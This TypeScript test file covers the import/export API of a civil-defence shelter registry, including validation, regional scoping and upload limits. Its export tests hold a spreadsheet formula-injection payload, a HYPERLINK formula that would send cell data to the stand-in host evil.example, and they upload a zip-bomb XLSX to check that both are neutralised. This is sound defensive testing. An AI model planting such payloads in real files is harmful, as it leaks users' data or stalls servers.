import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FIXTURE, call, createTestApp, createUser, signIn, type Session, type TestContext } from '../../../test/harness.ts';
import { givenWork, uniqueCode } from '../test-fixtures.ts';
import { toWgs84 } from './format/cells.ts';
import { WORK_COLUMNS } from './format/columns.ts';
import { parseCsv } from './format/parse-csv.ts';
import { parseGeoJson } from './format/parse-geojson.ts';
import { parseXlsx } from './format/parse-xlsx.ts';
import { bombXlsx, liarXlsx } from './format/zip.test-fixtures.ts';

let t: TestContext;
let manager: Session;
let county: Session;

beforeAll(async () => {
  t = await createTestApp();
  await createUser(t.db, 'importer', ['works_manager'], FIXTURE.city);
  await createUser(t.db, 'tz-importer', ['works_manager'], FIXTURE.countyB);
  manager = await signIn(t.app, 'importer');
  county = await signIn(t.app, 'tz-importer');
});
afterAll(() => t.close());

function multipart(fileName: string, data: Buffer | string, contentType = 'application/octet-stream') {
  const boundary = '----civdefTestBoundary7MA4YWxkTrZu0gW';
  const body = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: ${contentType}\r\n\r\n`),
    Buffer.isBuffer(data) ? data : Buffer.from(data, 'utf8'),
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { payload: body, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

async function upload(session: Session, fileName: string, data: Buffer | string, query = 'wait=true') {
  const m = multipart(fileName, data);
  return call(t.app, session, { method: 'POST', url: `/api/works/imports?${query}`, payload: m.payload, headers: m.headers });
}

const commit = (session: Session, id: string) => call(t.app, session, { method: 'POST', url: `/api/works/imports/${id}/commit?wait=true` });
const workCount = async () => (await t.db.query<{ n: number }>('SELECT count(*)::int AS n FROM work')).rows[0]!.n;

const HEADER = WORK_COLUMNS.map((c) => c.zh).join(',');
const csvRow = (over: Record<string, string | number> = {}) => {
  const base: Record<string, string | number> = {
    code: 'IMP-001', name: '导入测试工程', address: '南通市崇川区导入路 1 号', regionCode: FIXTURE.townA, lng: 120.875, lat: 32.005,
    constructionForm: '结建', parentProject: '导入测试小区项目', workClass: '人员掩蔽工程', subtype: '二等人员掩蔽所', protectionGrade: '核6级', chemicalGrade: '丙',
    yearBuilt: 2015, isPublic: '是', grossAreaM2: 3000, protectedAreaM2: 2500, shelterAreaM2: 2000, blastUnits: 4, parkingSpaces: 60,
    publicParkingSpaces: 20, parkingFeePerHour: 3, coolingSeason: '06-15~09-15', coolingHours: '09:00-21:00', coolingCapacity: 200, coolingFacilities: '座椅、WiFi、饮水',
    ...over,
  };
  return WORK_COLUMNS.map((c) => base[c.key] ?? '').join(',');
};

describe('import', () => {
  it('serves a template with Chinese headers that parses back as an empty file', async () => {
    const res = await call(t.app, manager, { method: 'GET', url: '/api/works/imports/template?format=xlsx' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toContain('filename*=UTF-8');
    const parsed = await parseXlsx(res.rawPayload, 'wgs84');
    expect(parsed).toMatchObject({ works: [], errors: [], totalRows: 0 });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    expect(wb.getWorksheet('工程')!.getRow(1).getCell(1).value).toBe('工程编号*');
    expect(wb.getWorksheet('防护单元')).toBeTruthy();
  });

  it('validates without writing, then commits a GCJ-02 CSV converted to WGS84, with progress events', async () => {
    const p = uniqueCode('IMP');
    const csv = [HEADER, csvRow({ code: `${p}-1` }), csvRow({ code: `${p}-2`, name: '第二个', lng: 120.88, lat: 32.01 })].join('\n');
    const before = await workCount();
    const v = await upload(manager, 'works.csv', csv, 'wait=true&crs=gcj02');
    expect(v.statusCode, v.body).toBe(200);
    expect(v.json()).toMatchObject({ status: 'valid', totalRows: 2, errorCount: 0, result: { willCreate: 2, willUpdate: 0 } });
    expect(await workCount()).toBe(before);
    const c = await commit(manager, v.json().id);
    expect(c.json()).toMatchObject({ status: 'committed', result: { created: 2, updated: 0 } });
    expect(await workCount()).toBe(before + 2);
    const row = (await t.db.query<{ lng: number; lat: number; peacetime: { coolingSpot: { facilities: string[] } } }>(
      `SELECT ST_X(location) AS lng, ST_Y(location) AS lat, peacetime_use AS peacetime FROM work WHERE code = $1`, [`${p}-1`])).rows[0]!;
    const [lng, lat] = toWgs84(120.875, 32.005, 'gcj02');
    expect(row.lng).toBeCloseTo(lng, 6);
    expect(row.lat).toBeCloseTo(lat, 6);
    expect(Math.abs(row.lng - 120.875)).toBeGreaterThan(0.003);
    expect(row.peacetime.coolingSpot.facilities).toEqual(['座椅', 'WiFi', '饮水']);
    const events = await call(t.app, manager, { method: 'GET', url: `/api/works/imports/${v.json().id}/events` });
    expect(events.headers['content-type']).toContain('text/event-stream');
    expect(events.body).toMatch(/event: done\ndata: .*"status":"committed"/);
    const audit = (await t.db.query<{ after: { created: string[] } }>(`SELECT after FROM audit_log WHERE action = 'work.import' AND entity_id = $1`, [v.json().id])).rows[0]!;
    expect(audit.after.created).toEqual([`${p}-1`, `${p}-2`]);
    const history = (await t.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM work_lifecycle_event e JOIN work w ON w.id = e.work_id WHERE w.code LIKE $1`, [`${p}-%`])).rows[0]!;
    expect(history.n).toBe(2);
    const plans = (await t.db.query<{ code: string; n: number; overdue: number }>(
      `SELECT w.code, count(p.id)::int AS n, count(p.id) FILTER (WHERE p.next_due_on <= (now() AT TIME ZONE 'Asia/Shanghai')::date)::int AS overdue
         FROM work w LEFT JOIN maintenance_plan p ON p.work_id = w.id WHERE w.code LIKE $1 GROUP BY w.code ORDER BY w.code`, [`${p}-%`])).rows;
    const schedules = (await t.db.query<{ n: number }>('SELECT count(*)::int AS n FROM maintenance_schedule WHERE active')).rows[0]!.n;
    expect(plans).toEqual([{ code: `${p}-1`, n: schedules, overdue: 0 }, { code: `${p}-2`, n: schedules, overdue: 0 }]);
    expect((audit.after as unknown as { maintenancePlans: { created: number } }).maintenancePlans.created).toBe(2 * schedules);
  });

  it('re-import by 工程编号 updates instead of duplicating', async () => {
    const code = uniqueCode('IMP');
    const first = await upload(manager, 'first.csv', [HEADER, csvRow({ code })].join('\r\n'));
    expect((await commit(manager, first.json().id)).json().status).toBe('committed');
    const before = await workCount();
    const v = await upload(manager, 'again.csv', [HEADER, csvRow({ code, name: '改过的名字', shelterAreaM2: 1000 })].join('\r\n'));
    expect(v.json()).toMatchObject({ status: 'valid', result: { willCreate: 0, willUpdate: 1 } });
    expect((await commit(manager, v.json().id)).json()).toMatchObject({ status: 'committed', result: { updated: 1, created: 0 } });
    expect(await workCount()).toBe(before);
    const w = (await t.db.query<{ name: string; version: number }>(`SELECT name, version FROM work WHERE code = $1`, [code])).rows[0]!;
    expect(w).toEqual({ name: '改过的名字', version: 2 });
  });

  it('words the life-cycle reason of an imported work in neither language: a code and the file name', async () => {
    const code = uniqueCode('WHY');
    const v = await upload(manager, '二月台账.csv', [HEADER, csvRow({ code })].join('\r\n'));
    expect((await commit(manager, v.json().id)).json().status).toBe('committed');
    const { id } = (await t.db.query<{ id: number }>('SELECT id FROM work WHERE code = $1', [code])).rows[0]!;
    const history = (await call(t.app, manager, { method: 'GET', url: `/api/works/${id}/lifecycle` })).json().items;
    expect(history).toMatchObject([{ fromState: null, toState: 'approved', reasonCode: 'imported', reason: '二月台账.csv' }]);
  });

  it('refuses a file with bad rows with a row-by-row report and writes nothing', async () => {
    const existing = await givenWork(t.app, manager);
    const before = await workCount();
    const csv = [
      HEADER,
      csvRow({ code: 'BAD-1', lng: 32.0, lat: 120.8 }),
      csvRow({ code: 'BAD-2', workClass: '城堡', protectionGrade: '核9' }),
      csvRow({ code: 'BAD-3', regionCode: '320699' }),
      csvRow({ code: 'BAD-3' }),
      csvRow({ code: 'BAD-5', shelterAreaM2: 9000 }),
      csvRow({ code: 'BAD-6', lifecycleState: '在用', name: '' }),
      csvRow({ code: existing.code, lifecycleState: '拆除' }),
      csvRow({ code: 'OK-1' }),
      csvRow({ code: 'BAD-10', parentProject: '' }),
      csvRow({ code: 'BAD-11', parkingSpaces: 10, publicParkingSpaces: 11 }),
      csvRow({ code: 'BAD-12', protectedAreaM2: 3100, shelterAreaM2: 1000 }),
    ].join('\n');
    const v = await upload(manager, 'bad.csv', csv);
    expect(v.json().status).toBe('invalid');
    const lines = (v.json().errors as Array<{ row: number; column: string; message: string }>).map((e) => `${e.row}:${e.column}`);
    expect(lines).toEqual(expect.arrayContaining([
      '2:经度', '3:战时功能', '3:抗力等级', '4:行政区划代码', '5:工程编号', '6:掩蔽面积(m²)', '7:工程名称', '8:生命周期状态',
      '10:所属建设项目', '11:公共停车位', '12:防护面积(m²)',
    ]));
    expect(lines.some((l) => l.startsWith('9:'))).toBe(false);
    // Cross-field breaches carry the same codes as a refused create or edit.
    const codes = (v.json().errors as Array<{ row: number; code?: string }>).filter((e) => e.code).map((e) => `${e.row}:${e.code}`);
    expect(codes).toEqual(expect.arrayContaining(['10:WORKS_PARENT_PROJECT_REQUIRED', '11:WORKS_PARKING_PUBLIC_EXCEEDS_TOTAL', '12:WORKS_UNIT_PROTECTED_AREA_EXCEEDS_GROSS']));
    const en = await call(t.app, manager, { method: 'GET', url: `/api/works/imports/${v.json().id}`, headers: { 'accept-language': 'en' } });
    expect(en.json().errors.find((e: { row: number }) => e.row === 5).message).toBe('duplicates row 4');
    const c = await commit(manager, v.json().id);
    expect(c.statusCode).toBe(409);
    expect(c.json().code).toBe('WORKS_IMPORT_NOT_READY');
    expect(await workCount()).toBe(before);
  });

  it('keeps a county importer inside the county', async () => {
    const v = await upload(county, 'tz.csv', [HEADER, csvRow({ code: 'TZ-1', regionCode: FIXTURE.townB }), csvRow({ code: 'TZ-2' }), csvRow({ code: 'RF-A-001', regionCode: FIXTURE.townB })].join('\n'));
    const errs = (v.json().errors as Array<{ row: number; column: string }>).map((e) => `${e.row}:${e.column}`);
    expect(errs).toEqual(['3:行政区划代码', '4:工程编号']);
    expect((await call(t.app, county, { method: 'GET', url: `/api/works/imports/${v.json().id}` })).statusCode).toBe(200);
    const other = await upload(manager, 'x.csv', [HEADER, csvRow({ code: 'X-1' })].join('\n'));
    expect((await call(t.app, county, { method: 'GET', url: `/api/works/imports/${other.json().id}` })).statusCode).toBe(404);
  });

  it('refuses a non-spreadsheet and a missing file with 4xx', async () => {
    const junk = await upload(manager, 'works.xlsx', Buffer.from('not a zip'));
    expect(junk.json()).toMatchObject({ status: 'invalid', errorCount: 1 });
    const ext = await upload(manager, 'works.pdf', 'x');
    expect(ext.statusCode).toBe(400);
    const none = await call(t.app, manager, { method: 'POST', url: '/api/works/imports', payload: { file: 'x' } });
    expect(none.statusCode).toBe(400);
  });
});

describe('upload limits and a server that keeps answering', () => {
  const jobCount = async () => (await t.db.query<{ n: number }>('SELECT count(*)::int AS n FROM work_import_job')).rows[0]!.n;

  it('refuses at once a small XLSX that unpacks to 300 MB, naming the limit in zh and en, and stores nothing', async () => {
    const bomb = await bombXlsx(300);
    const before = await jobCount();
    const t0 = performance.now();
    const res = await upload(manager, 'bomb.xlsx', bomb);
    const ms = performance.now() - t0;
    expect(res.statusCode, res.body).toBe(413);
    expect(ms).toBeLessThan(2000);
    expect(res.json()).toMatchObject({ code: 'WORKS_IMPORT_UNPACKED_TOO_LARGE' });
    expect(res.json().message).toMatch(/上限 200 MB/);
    const m = multipart('bomb.xlsx', bomb);
    const en = await call(t.app, manager, { method: 'POST', url: '/api/works/imports?wait=true', payload: m.payload, headers: { ...m.headers, 'accept-language': 'en' } });
    expect(en.json().message).toMatch(/unpacks to 30\d MB, more than the 200 MB limit/);
    expect(await jobCount()).toBe(before);
  });

  it('reports a zip that unpacks to more than it declares as an invalid job, not a stalled server', async () => {
    const res = await upload(manager, 'liar.xlsx', await liarXlsx(64));
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ status: 'invalid', errorCount: 1 });
    expect(res.json().errors[0].message).toContain('声明');
  });

  it('answers /api/health while a large valid workbook is parsed', async () => {
    const p = uniqueCode('BIG');
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('工程');
    ws.addRow(WORK_COLUMNS.map((c) => c.zh));
    const cells = csvRow({ code: 'X' }).split(',');
    for (let i = 0; i < 20_000; i++) ws.addRow(cells.map((c, k) => (k === 0 ? `${p}-${i}` : c)));
    const file = Buffer.from(await wb.xlsx.writeBuffer());
    let finished = false;
    const job = upload(manager, 'big.xlsx', file).then((r) => {
      finished = true;
      return r;
    });
    // A probe every 20 ms: its latency runs from when it was due (a request arriving at the socket does not wait
    // for our timer) to its answer, so time the event loop spends elsewhere counts, as it does for a real client.
    const latencies: number[] = [];
    await new Promise((r) => setTimeout(r, 200));
    const probing = performance.now();
    while (!finished && latencies.length < 1000) {
      const due = performance.now() + 20;
      await new Promise((r) => setTimeout(r, 20));
      const h = await t.app.inject({ method: 'GET', url: '/api/health' });
      if (finished) break;
      expect(h.statusCode).toBeLessThan(500);
      latencies.push(performance.now() - due);
    }
    const parseMs = performance.now() - probing;
    const res = await job;
    expect(res.json()).toMatchObject({ status: 'valid', totalRows: 20_000 });
    latencies.sort((a, b) => a - b);
    const max = latencies.at(-1)!;
    // eslint-disable-next-line no-console -- the measured latency is the point of this case: print it with the result
    console.info(`health during a 20,000-row XLSX parse of ${parseMs.toFixed(0)} ms: ${latencies.length} answers, p50 ${latencies[latencies.length >> 1]!.toFixed(0)} ms, max ${max.toFixed(0)} ms`);
    // The parse takes seconds; on the event loop it held /api/health for most of them, in one gap. Measured against
    // the parse's own time rather than a fixed figure, so a slower or busier machine (which stretches both) does not
    // fail it (CI once saw 547 ms with two test tiers beside each other): off the event loop, no answer waits more than a
    // fifth of the parse (measured alone: max 16 ms during a 6.2 s parse).
    expect(latencies.length).toBeGreaterThan(5);
    expect(max).toBeLessThan(Math.max(500, parseMs / 5));
  });

  it('answers a cut-off multipart upload with 400, not 500', async () => {
    const boundary = '----civdefCut';
    const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="cut.csv"\r\nContent-Type: text/csv\r\n\r\n${HEADER}\n`;
    for (const url of ['/api/works/imports?wait=true']) {
      const res = await call(t.app, manager, { method: 'POST', url, payload: Buffer.from(head), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } });
      expect(res.statusCode, res.body).toBe(400);
      expect(res.json()).toMatchObject({ code: 'WORKS_UPLOAD_INCOMPLETE' });
      expect(res.json().message).toContain('file');
    }
  });
});

describe('export', () => {
  /** Two works of this case only: one with a single unit, one with units A and B (which need the 防护单元 sheet). */
  async function givenExportable() {
    const prefix = uniqueCode('EXP');
    const one = await givenWork(t.app, manager, { code: `${prefix}-1`, units: [{ name: '防护单元1', grossAreaM2: 300, protectedAreaM2: 250, shelterAreaM2: 200, blastUnits: 1, parkingSpaces: 5 }] });
    const two = await givenWork(t.app, manager, { code: `${prefix}-2`, units: [
      { name: 'A', grossAreaM2: 100, protectedAreaM2: 90, shelterAreaM2: 80, blastUnits: 1, parkingSpaces: 2 },
      { name: 'B', grossAreaM2: 200, protectedAreaM2: 190, shelterAreaM2: 180, blastUnits: 2, parkingSpaces: 3 },
    ] });
    return { q: encodeURIComponent(prefix), one, two };
  }

  it('exports the filtered selection as XLSX that imports back as pure updates, units included', async () => {
    const { q, one, two } = await givenExportable();
    const res = await call(t.app, manager, { method: 'GET', url: `/api/works/export?format=xlsx&regionCode=${FIXTURE.countyA}&q=${q}` });
    expect(res.statusCode).toBe(200);
    const parsed = await parseXlsx(res.rawPayload, 'wgs84');
    expect(parsed.errors).toEqual([]);
    expect(parsed.works.map((w) => w.work.code).sort()).toEqual([one.code, two.code]);
    expect(parsed.works.find((w) => w.work.code === two.code)!.work.units.map((u) => u.name)).toEqual(['A', 'B']);
    const v = await upload(manager, 'roundtrip.xlsx', res.rawPayload);
    // Nothing in the file differs from the registry: both works are unchanged, none is rewritten.
    expect(v.json()).toMatchObject({ status: 'valid', result: { willCreate: 0, willUpdate: 0, willKeep: 2 } });
  });

  it('exports a work named like a formula as text in CSV (no live formula), and it imports back unchanged', async () => {
    const prefix = uniqueCode('INJ');
    const name = '=HYPERLINK("http://evil.example/?q="&A1,"点我")';
    await givenWork(t.app, manager, { code: `${prefix}-1`, name, address: '@SUM(1+1)' });
    const res = await call(t.app, manager, { method: 'GET', url: `/api/works/export?format=csv&q=${encodeURIComponent(prefix)}` });
    expect(res.statusCode).toBe(200);
    const body = res.body.replace(/^\uFEFF/, '');
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""点我"")"`);
    expect(body).toContain(`'@SUM(1+1)`);
    expect(body.split(/\r\n/).flatMap((line) => line.split(',')).filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
    const v = await upload(manager, 'injection.csv', res.rawPayload);
    expect(v.json()).toMatchObject({ status: 'valid', result: { willCreate: 0, willUpdate: 0, willKeep: 1 } });
    expect((await commit(manager, v.json().id)).json().status).toBe('committed');
    const stored = (await t.db.query<{ name: string; address: string }>('SELECT name, address FROM work WHERE code = $1', [`${prefix}-1`])).rows[0]!;
    expect(stored).toEqual({ name, address: '@SUM(1+1)' });
  });

  it('exports GeoJSON and CSV that parse back without errors; county users export their county only', async () => {
    const { q, two } = await givenExportable();
    const gj = await call(t.app, manager, { method: 'GET', url: `/api/works/export?format=geojson&q=${q}` });
    expect(gj.headers['content-type']).toContain('application/geo+json');
    const parsed = parseGeoJson(gj.rawPayload, 'wgs84');
    expect(parsed.errors).toEqual([]);
    expect(parsed.works.find((w) => w.work.code === two.code)!.work.units).toHaveLength(2);
    const csv = await call(t.app, manager, { method: 'GET', url: `/api/works/export?format=csv&q=${q}` });
    expect(parseCsv(csv.rawPayload, 'wgs84')).toMatchObject({ errors: [], totalRows: 2 });
    const tz = await call(t.app, county, { method: 'GET', url: '/api/works/export?format=geojson' });
    const regions = JSON.parse(tz.body).features.map((f: { properties: { regionCode: string } }) => f.properties.regionCode) as string[];
    expect(regions).toContain(FIXTURE.townB);
    expect(regions.every((r) => r.startsWith(FIXTURE.countyB))).toBe(true);
  });
});

describe('importer robustness (property-based)', () => {
  const cell = fc.oneof(
    fc.string({ maxLength: 12 }), fc.constant(''), fc.constant('核6级'), fc.constant('结建'), fc.constant(FIXTURE.townA),
    fc.double({ noNaN: false }).map(String), fc.integer().map(String), fc.constant('\u0000'), fc.constant('"'), fc.constant('是'),
  );

  it('random rows never answer 5xx and either commit completely or write nothing', async () => {
    let n = 0;
    await fc.assert(fc.asyncProperty(
      fc.array(fc.oneof(
        fc.array(cell, { minLength: WORK_COLUMNS.length, maxLength: WORK_COLUMNS.length }).map((cells) => cells.map((c) => `"${c.replace(/"/g, '""')}"`).join(',')),
        fc.integer({ min: 0, max: 1e6 }).map((i) => csvRow({ code: `PB-${i}` })),
      ), { maxLength: 6 }),
      async (rows) => {
        n += 1;
        const before = await workCount();
        const v = await upload(manager, `p${n}.csv`, [HEADER, ...rows].join('\n'));
        expect(v.statusCode).toBeLessThan(500);
        if (v.json().status !== 'valid') return;
        const c = await commit(manager, v.json().id);
        expect(c.statusCode).toBeLessThan(500);
        const after = await workCount();
        if (c.json().status === 'committed') expect(after - before).toBe(c.json().result.created);
        else expect(after).toBe(before);
      },
    ), { numRuns: 25 });
  });
});

describe('re-import of peacetime uses', () => {
  it('re-import replaces the peacetime uses when the row carries use columns (emptied ones clear) and keeps them when it has none', async () => {
    const use = async () => (await t.db.query<{ u: Record<string, unknown> }>(`SELECT peacetime_use AS u FROM work WHERE code = 'USE-001'`)).rows[0]!.u;
    const created = await upload(manager, 'use.csv', [HEADER, csvRow({ code: 'USE-001', lng: 120.89, lat: 32.02 })].join('\n'));
    expect((await commit(manager, created.json().id)).json().status).toBe('committed');
    expect(Object.keys(await use()).sort()).toEqual(['coolingSpot', 'parking']);
    // 其他使用 contracts have no column in the file: an import never touches them.
    await t.db.query(`UPDATE work SET peacetime_use = peacetime_use || '{"evChargers": 4, "other": [{"use": "仓储", "party": "某公司", "contractStart": "2024-01-01", "contractEnd": "2026-12-31"}]}'::jsonb WHERE code = 'USE-001'`);
    const cleared = { code: 'USE-001', name: '用途测试', lng: 120.89, lat: 32.02, coolingSeason: '', coolingHours: '', coolingCapacity: '', coolingFacilities: '', publicParkingSpaces: 5, parkingFeePerHour: '' };
    const v = await upload(manager, 'uses.csv', [HEADER, csvRow(cleared)].join('\n'));
    expect(v.json()).toMatchObject({ status: 'valid', result: { willUpdate: 1 } });
    expect((await commit(manager, v.json().id)).json().status).toBe('committed');
    const after = await use();
    expect(after.coolingSpot).toBeUndefined();
    expect(after.evChargers).toBeUndefined();
    // An emptied 停车收费 is unknown, not free: empty stays empty.
    expect(after.parking).toEqual({ total: 60, publicSpaces: 5 });
    expect(after.other).toHaveLength(1);
    // All use cells emptied: the uses the file can carry are all cleared.
    const none = await upload(manager, 'no-uses.csv', [HEADER, csvRow({ ...cleared, parkingSpaces: '', publicParkingSpaces: '' })].join('\n'));
    expect((await commit(manager, none.json().id)).json().status).toBe('committed');
    expect(Object.keys(await use())).toEqual(['other']);
    // A file without any use column keeps the stored uses.
    await t.db.query(`UPDATE work SET peacetime_use = '{"parking": {"total": 9, "publicSpaces": 9, "feePerHourYuan": 1}}'::jsonb WHERE code = 'USE-001'`);
    const required = WORK_COLUMNS.filter((c) => c.required || c.key === 'parentProject');
    const row: Record<string, string | number> = {
      code: 'USE-001', name: '只改名字', regionCode: FIXTURE.townA, lng: 120.89, lat: 32.02, constructionForm: '结建', parentProject: '某项目', workClass: '人员掩蔽工程',
    };
    const minimal = await upload(manager, 'minimal.csv', [required.map((c) => c.zh).join(','), required.map((c) => row[c.key] ?? '').join(',')].join('\n'));
    expect(minimal.json()).toMatchObject({ status: 'valid', result: { willUpdate: 1 } });
    expect((await commit(manager, minimal.json().id)).json().status).toBe('committed');
    expect(await use()).toEqual({ parking: { total: 9, publicSpaces: 9, feePerHourYuan: 1 } });
    expect((await t.db.query<{ name: string }>(`SELECT name FROM work WHERE code = 'USE-001'`)).rows[0]!.name).toBe('只改名字');
  });
});

describe('export → import is lossless (the database after equals the database before)', () => {
  /** Everything a work's detail says, less what a write moves on by itself. */
  async function snapshot(id: number) {
    const d = (await call(t.app, manager, { method: 'GET', url: `/api/works/${id}` })).json();
    const { version: _v, updatedAt: _u, upkeep: _k, ...rest } = d;
    return { ...rest, units: (d.units as Array<Record<string, unknown>>).map(({ id: _i, ...u }) => u) };
  }

  for (const format of ['csv', 'xlsx', 'geojson'] as const) {
    it(`${format}: named units, 抗爆单元数, 平时功能, partial parking and empty cells come back unchanged; re-importing is an update that changes nothing`, async () => {
      const prefix = uniqueCode(`RT${format}`);
      const works = [
        await givenWork(t.app, manager, { code: `${prefix}-1`, peacetimeUse: { parking: { total: 12 } }, units: [
          { name: '1号防护单元', grossAreaM2: 1200.5, protectedAreaM2: 1000, shelterAreaM2: 800.25, blastUnits: 3, parkingSpaces: 7, peacetimeFunction: '停车库', wartimeFunction: 'class1', protectionGrade: 'N5', chemicalGrade: 'B' },
          { name: '2号防护单元', grossAreaM2: 300, protectedAreaM2: 250, shelterAreaM2: 0, blastUnits: 0, parkingSpaces: 0, peacetimeFunction: null },
        ] }),
        await givenWork(t.app, manager, { code: `${prefix}-2`, address: null, subtype: null, protectionGrade: null, chemicalGrade: null, yearBuilt: null, peacetimeUse: {}, units: [
          { name: '唯一单元', grossAreaM2: 100, protectedAreaM2: 100, shelterAreaM2: 100, blastUnits: 1, parkingSpaces: 0 },
        ] }),
      ];
      const before = await Promise.all(works.map((w) => snapshot(w.id)));
      const res = await call(t.app, manager, { method: 'GET', url: `/api/works/export?format=${format}&q=${encodeURIComponent(prefix)}` });
      expect(res.statusCode).toBe(200);
      const v = await upload(manager, `roundtrip.${format}`, res.rawPayload);
      expect(v.json(), JSON.stringify(v.json().errors)).toMatchObject({ status: 'valid', result: { willCreate: 0, willUpdate: 0, willKeep: 2 } });
      const versions = async () => (await t.db.query<{ version: number; updatedAt: Date }>(
        'SELECT version, updated_at AS "updatedAt" FROM work WHERE id = ANY($1::int[]) ORDER BY id', [works.map((w) => w.id)])).rows;
      const written = await versions();
      const c = await commit(manager, v.json().id);
      expect(c.json()).toMatchObject({ status: 'committed', result: { created: 0, updated: 0, unchanged: 2 } });
      expect(await Promise.all(works.map((w) => snapshot(w.id)))).toEqual(before);
      // Not written at all: same version, same update time; the audit names them as unchanged with no "before".
      expect(await versions()).toEqual(written);
      const audit = (await t.db.query<{ before: { updated: unknown[] }; after: { updated: string[]; unchanged: string[] } }>(
        `SELECT before, after FROM audit_log WHERE action = 'work.import' AND entity_id = $1`, [v.json().id])).rows[0]!;
      expect(audit.before.updated).toEqual([]);
      expect(audit.after.updated).toEqual([]);
      expect(audit.after.unchanged.sort()).toEqual(works.map((w) => w.code).sort());
    });
  }
});

describe('one upload reports every problem of every row', () => {
  it('a value error, a cross-field rule and an unknown region of the same row come in one report', async () => {
    const code = uniqueCode('ONE');
    const csv = [HEADER, csvRow({ code, yearBuilt: '二〇一二', parentProject: '', regionCode: '320699999', subtype: '物资库' })].join('\n');
    const v = await upload(manager, 'one-pass.csv', csv);
    expect(v.json().status).toBe('invalid');
    const lines = (v.json().errors as Array<{ row: number; column: string }>).map((e) => `${e.row}:${e.column}`);
    expect(lines).toEqual(['2:建成年份', '2:战时功能细类', '2:所属建设项目', '2:行政区划代码']);
  });

  it('a finished work cannot have been built in the future; a support work may leave 掩蔽面积 empty', async () => {
    const code = uniqueCode('FUT');
    const csv = [
      HEADER,
      csvRow({ code: `${code}-1`, yearBuilt: 2090, lifecycleState: '在用' }),
      csvRow({ code: `${code}-2`, workClass: '配套工程', subtype: '区域电站', shelterAreaM2: '' }),
    ].join('\n');
    const v = await upload(manager, 'future.csv', csv);
    expect((v.json().errors as Array<{ row: number; code?: string }>).map((e) => `${e.row}:${e.code ?? ''}`)).toEqual(['2:WORKS_YEAR_BUILT_IN_FUTURE']);
  });
});

